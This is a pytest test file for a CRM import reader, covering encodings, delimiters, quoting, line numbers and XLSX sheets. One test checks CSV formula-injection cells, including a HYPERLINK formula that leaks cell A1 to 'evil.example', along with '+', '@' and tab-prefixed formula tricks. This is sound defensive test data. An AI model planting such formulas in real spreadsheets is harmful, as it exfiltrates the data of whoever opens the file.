"""Reading import files exactly: encodings, delimiters, quoting, line numbers, XLSX, and broken
files reported with the line at fault instead of silently read wrong."""

from __future__ import annotations

import codecs
import contextlib
import csv
import io
import re
from datetime import date, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from crm_tui.services.import_read import DELIMITERS, ReadError, decode, read_bytes, read_table, sniff_delimiter

DATA = Path(__file__).parent / "data" / "import"


@pytest.mark.parametrize(
    ("name", "encoding", "delimiter", "first_columns", "count"),
    [
        ("hubspot-contacts.csv", "utf-8", ",", ["Record ID", "First Name", "Last Name"], 8),
        ("hubspot-deals.csv", "utf-8", ",", ["Record ID", "Deal Name", "Amount"], 6),
        ("pipedrive-deals.csv", "utf-8-sig", ",", ["Deal - ID", "Deal - Title", "Deal - Value"], 7),
        ("excel-semicolon-cp1252.csv", "cp1252", ";", ["Vorname", "Nachname", "Firma"], 5),
        ("bom-utf8.csv", "utf-8-sig", ",", ["Name", "Domain", "Industry"], 4),
        ("tab-separated.tsv", "utf-8", "\t", ["First name", "Last name", "Email"], 4),
        ("utf16-excel.txt", "utf-16-le", "\t", ["Name", "E-mail", "Telefon"], 4),
        ("embedded-newlines.csv", "utf-8", ",", ["Name", "Address", "Notes"], 4),
        ("formula-injection.csv", "utf-8", ",", ["Title", "Amount", "Company"], 6),
    ],
)
def test_each_fixture_reads_with_its_encoding_delimiter_and_rows(
    name: str, encoding: str, delimiter: str, first_columns: list[str], count: int
) -> None:
    table = read_table(DATA / name)
    assert (table.encoding, table.delimiter) == (encoding, delimiter)
    assert table.header[: len(first_columns)] == first_columns
    assert len(table.rows) == count
    assert all(len(row.cells) == len(table.header) for row in table.rows)
    assert (table.warnings != []) == (encoding == "cp1252")


def test_accents_survive_windows_1252_and_utf16() -> None:
    german = read_table(DATA / "excel-semicolon-cp1252.csv")
    assert german.rows[0].cells[:3] == ["Jürgen", "Müller", "Müller Maschinenbau GmbH"]
    assert german.rows[1].cells[2] == "Café Zoë"
    assert german.rows[0].cells[-1] == "12.345,67 €"  # 0x80 is the euro sign only in cp1252
    assert "Windows-1252 (cp1252)" in german.warnings[0] and "line 2" in german.warnings[0]

    excel = read_table(DATA / "utf16-excel.txt")
    assert excel.rows[2].cells[:2] == ["李 小龍", "li@dragon.example"]
    assert excel.rows[0].cells[0] == "Łukasz Nowak" and excel.rows[0].line == 2

    pipedrive = read_table(DATA / "pipedrive-deals.csv")
    assert pipedrive.header[0] == "Deal - ID"  # the BOM is not part of the first name
    assert pipedrive.rows[3].cells[5] == "Søren Håland"


def test_quoted_fields_keep_line_breaks_and_doubled_quotes_and_lines_are_counted() -> None:
    table = read_table(DATA / "embedded-newlines.csv")
    acme, nordlicht, rossi, sakura = table.rows
    assert acme.cells[1] == "1 Road Runner Way\nSuite 400\nPhoenix, AZ 85001"
    assert acme.cells[2] == 'Met at the trade fair; he said "call me Monday" and left'
    assert rossi.cells[2] == 'Family business, "third generation"\nDecision by Giulia'
    assert [row.line for row in table.rows] == [2, 5, 6, 9]
    assert nordlicht.cells[0] == "Nordlicht Energie AG" and sakura.cells[2] == ""


def test_cells_are_passed_on_unchanged_and_formulas_are_plain_text() -> None:
    table = read_table(DATA / "formula-injection.csv")
    cells = {row.cells[0]: row.cells for row in table.rows}
    assert cells["Harmless deal"][1] == "-42.5"
    assert cells["Click me"][2] == '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")'
    assert cells["Sum trick"][1] == "+1+1" and cells["Minus trick"][1] == "-2+3"
    assert cells["At trick"][2] == "@SUM(A1)" and cells["Tab trick"][2] == "\t=1+2"

    spaced = read_bytes(b" Name , Email \n  Ada  , ada@example.com \n")
    assert spaced.header == ["Name", "Email"]
    assert spaced.rows[0].cells == ["  Ada  ", " ada@example.com "]


def test_a_cell_longer_than_the_csv_modules_default_limit_reads() -> None:
    notes = "word " * 60_000  # 300 KB; the csv module stops at 128 KB unless told otherwise
    table = read_bytes(f'Name,Notes\nAda,"{notes}"\nBo,short\n'.encode())
    assert table.rows[0].cells[1] == notes and table.rows[1].line == 3


def test_ragged_rows_are_kept_as_written_and_blank_rows_skipped() -> None:
    table = read_bytes(b"a,b,c\r\n\r\n1,2\r\n,,\r\n  \r\n1,2,3,4\r\n")
    assert [(row.line, row.cells) for row in table.rows] == [(3, ["1", "2"]), (6, ["1", "2", "3", "4"])]


def test_header_names_are_unique_and_never_blank() -> None:
    table = read_bytes(b"Email,,Email,Name,Email\nx,y,z,w,v\n")
    assert table.header == ["Email", "Column 2", "Email (2)", "Name", "Email (3)"]
    assert any("'Email (2)'" in warning for warning in table.warnings)
    assert any("column 2 has no name" in warning for warning in table.warnings)


def test_an_unterminated_quote_names_the_line_where_it_opens() -> None:
    with pytest.raises(ReadError, match=r"^line 5: a quoted field is never closed") as raised:
        read_table(DATA / "unterminated-quote.csv")
    assert raised.value.line == 5
    # Inside a record whose earlier field spans lines, the open quote is still found.
    with pytest.raises(ReadError) as later:
        read_bytes(b'a,b,c\n1,"two\nlines",3\n4,"open\n5,6\n')
    assert later.value.line == 4


def test_text_after_a_closing_quote_is_an_error_with_its_line() -> None:
    with pytest.raises(ReadError, match=r"^line 3: a quoted field has text after its closing quote") as raised:
        read_bytes(b'a,b\n1,2\n3,"x"y\n')
    assert raised.value.line == 3


def test_nul_bytes_empty_files_and_binary_spreadsheets_are_errors() -> None:
    with pytest.raises(ReadError, match="^line 3: the file holds NUL bytes") as raised:
        read_bytes(b"Name,Email\nAda,ada@example.com\nBad\x00,row\n")
    assert raised.value.line == 3
    for empty in (b"", b"\r\n \n\t\n", codecs.BOM_UTF8):
        with pytest.raises(ReadError, match="^the file is empty$"):
            read_bytes(empty)
    header_only = read_bytes(b"Name,Email\n\n")
    assert header_only.header == ["Name", "Email"] and header_only.rows == []
    with pytest.raises(ReadError, match=r"old Excel \.xls"):
        read_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, name="old.xls")
    with pytest.raises(ReadError, match="cannot read"):
        read_table(DATA / "no-such-file.csv")


def test_explicit_delimiter_overrides_sniffing() -> None:
    data = b"a;b,c\n1;2,3\n"
    assert read_bytes(data, delimiter="comma").header == ["a;b", "c"]
    assert read_bytes(data, delimiter=",").rows[0].cells == ["1;2", "3"]
    assert read_bytes(data, delimiter="semicolon").header == ["a", "b,c"]
    tsv = (DATA / "tab-separated.tsv").read_bytes()
    for name in ("tab", "\\t", "\t", "TAB"):
        assert read_bytes(tsv, delimiter=name).delimiter == "\t"
    assert read_bytes(tsv, delimiter=",").header[0] == "First name\tLast name\tEmail\tCompany\tPhone\tTitle"
    with pytest.raises(ReadError, match="unknown delimiter"):
        read_bytes(data, delimiter="xx")


def test_sniffing_counts_outside_quotes_and_prefers_consistent_columns() -> None:
    assert sniff_delimiter('Name;Note\n"Ada";"a, b, c"\n"Bo";"x,y"\n') == ";"
    assert sniff_delimiter("Name|Amount\nAda|1,5\nBo|2,75\n") == "|"
    assert sniff_delimiter('"a;b",c\n"1;2",3\n') == ","
    assert sniff_delimiter("just one column\nvalue\n") == ","
    assert read_bytes(b"sep=;\nName;Email\nAda;a@b.c\n").rows[0].line == 3  # Excel's delimiter hint line


def test_explicit_encoding_overrides_detection() -> None:
    data = (DATA / "excel-semicolon-cp1252.csv").read_bytes()
    latin = read_bytes(data, encoding="latin-1")
    assert latin.encoding == "latin-1" and latin.warnings == []
    assert latin.rows[0].cells[0] == "Jürgen" and latin.rows[0].cells[-1] == "12.345,67 \x80"
    assert read_bytes(data, encoding="windows-1252").encoding == "cp1252"
    with pytest.raises(ReadError, match=r"^line 2: the file is not valid utf-8") as raised:
        read_bytes(data, encoding="utf-8")
    assert raised.value.line == 2
    for bad in ("klingon", "base64"):
        with pytest.raises(ReadError, match="unknown encoding"):
            read_bytes(data, encoding=bad)
    assert read_table(DATA / "bom-utf8.csv", encoding="utf-8").header[0] == "Name"


def test_detection_falls_back_to_latin1_and_finds_utf16_without_a_bom() -> None:
    text, used, warnings = decode(b"Name\nA\x81B\xe9\n")
    assert (text, used) == ("Name\nA\x81Bé\n", "latin-1") and "Latin-1" in warnings[0]
    bare = "Name\tCity\r\nZoë\tKöln\r\n".encode("utf-16-le")
    table = read_bytes(bare)
    assert table.encoding == "utf-16-le" and table.rows[0].cells == ["Zoë", "Köln"]
    assert "no byte-order mark" in table.warnings[0]
    big_endian = codecs.BOM_UTF16_BE + "Name,City\nZoë,Köln\n".encode("utf-16-be")
    assert read_bytes(big_endian).rows[0].cells == ["Zoë", "Köln"]
    with pytest.raises(ReadError, match="utf-16-le byte-order mark but is not valid"):
        read_bytes(codecs.BOM_UTF16_LE + b"a\x00b")


def test_an_xlsx_sheet_reads_as_text(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Contacts"
    sheet.append(["Name", "Born", "Met", "Employees", "Score", "Revenue", "VIP", "Empty", None, None])
    sheet.append(["Zoë Dubois", date(1990, 3, 1), datetime(2026, 3, 1, 14, 30), 12, 3.0, 1234.56, True, None])
    sheet.append([])
    sheet.append(["Jürgen Müller", datetime(2026, 3, 1), datetime(2026, 3, 2, 9, 5, 7), 7, 2.5, -42.5, False, "x"])
    sheet.cell(row=6, column=1, value="  Last  ")
    book.create_sheet("Deals").append(["Title", "Amount"])
    book["Deals"].append(["Big one", 1000])
    path = tmp_path / "contacts.xlsx"
    book.save(path)

    table = read_table(path)
    assert (table.encoding, table.delimiter) == ("xlsx", "")
    assert table.header == ["Name", "Born", "Met", "Employees", "Score", "Revenue", "VIP", "Empty"]
    assert [row.line for row in table.rows] == [2, 4, 6]
    assert table.rows[0].cells == ["Zoë Dubois", "1990-03-01", "2026-03-01 14:30:00", "12", "3", "1234.56", "true", ""]
    assert table.rows[1].cells == [
        "Jürgen Müller",
        "2026-03-01",
        "2026-03-02 09:05:07",
        "7",
        "2.5",
        "-42.5",
        "false",
        "x",
    ]
    assert table.rows[2].cells == ["  Last  ", "", "", "", "", "", "", ""]
    assert "2 sheets" in table.warnings[0]

    deals = read_table(path, sheet="Deals")
    assert deals.header == ["Title", "Amount"] and deals.rows[0].cells == ["Big one", "1000"] and deals.warnings == []
    assert read_bytes(path.read_bytes(), name="upload.bin").header[0] == "Name"  # known by its content
    with pytest.raises(ReadError, match="no sheet 'Leads'; its sheets are: Contacts, Deals"):
        read_table(path, sheet="Leads")
    with pytest.raises(ReadError, match="not a readable .xlsx workbook"):
        read_bytes(b"PK\x03\x04 not really a zip")
    with pytest.raises(ReadError, match="not a readable .xlsx workbook"):
        read_bytes(b"Name,Email\n", name="contacts.xlsx")


def test_a_large_file_reads_completely(tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow([f"Column {n}" for n in range(10)])
        for n in range(100_000):
            writer.writerow([f"Name {n}", f"user{n}@example.com", "+49 30 1234567", "Müller GmbH", n, "2026-03-01",
                             "Berlin", "yes", "note, with comma", "x"])  # fmt: skip
    table = read_table(path)
    assert len(table.rows) == 100_000
    last = table.rows[-1]
    assert last.line == 100_001 and last.cells[:2] == ["Name 99999", "user99999@example.com"]
    assert last.cells[8] == "note, with comma"


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=400))
def test_any_bytes_give_a_table_or_a_read_error(data: bytes) -> None:
    try:
        table = read_bytes(data)
    except ReadError:
        return
    assert table.header and all(isinstance(row.line, int) for row in table.rows)


_CELL = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00\ufeff"), max_size=12)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.lists(_CELL, max_size=5), min_size=1, max_size=12), st.sampled_from(DELIMITERS))
def test_what_csv_writer_wrote_reads_back_the_same(rows: list[list[str]], delimiter: str) -> None:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter).writerows(rows)
    text = buffer.getvalue()
    assume(not re.match(r"sep=.(\r\n|\n|\r)", text))  # Excel's hint line is not data
    kept = [row for row in rows if "".join(row).strip()]
    with contextlib.suppress(ReadError):  # a sniffed delimiter may differ: only that it fails cleanly
        read_bytes(text.encode())
    for data in (text.encode(), text.encode("utf-16")):
        if not kept:
            with pytest.raises(ReadError, match="^the file is empty$"):
                read_bytes(data, delimiter=delimiter)
            continue
        table = read_bytes(data, delimiter=delimiter)
        assert [row.cells for row in table.rows] == kept[1:]
        names = [cell.strip() for cell in kept[0]]
        assert len(table.header) == len(names) and len(set(table.header)) == len(names)
        if all(names) and len(set(names)) == len(names):
            assert table.header == names
